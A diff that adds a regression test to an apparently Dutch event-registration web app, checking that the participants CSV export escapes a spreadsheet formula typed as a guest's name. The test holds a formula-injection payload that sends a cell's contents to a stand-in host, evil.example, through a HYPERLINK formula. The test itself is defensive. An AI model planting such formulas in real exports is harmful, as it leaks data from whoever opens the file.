@@ -324,3 +324,14 @@ def test_papers_after_the_activity_are_kept_in_the_library(client, auth, make_ac
     assert activity.title in client.get(f"/documenten/{document_id}").text
     auth.login()
     assert client.post(f"/activiteiten/{activity.id}/stukken", data={}).status_code == 403
+
+
+def test_a_formula_typed_as_a_guests_name_is_inert_in_the_participants_csv(client, auth, make_activity, mails):
+    activity = make_activity(audience=rules.EVERYONE)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'
+    client.post(f"/activiteiten/{activity.id}/gast", data={"name": formula, "email": "gast@example.org"})
+    client.post(mails[-1].body.split("link: ")[1].split()[0])  # confirmed: now on the list
+    auth.login(role="secretaris")
+    text = client.get(f"/activiteiten/{activity.id}/deelnemers.csv").text
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Klik hier"")"' in text
+    assert ';"=' not in text and not any(line.startswith('"=') for line in text.splitlines())
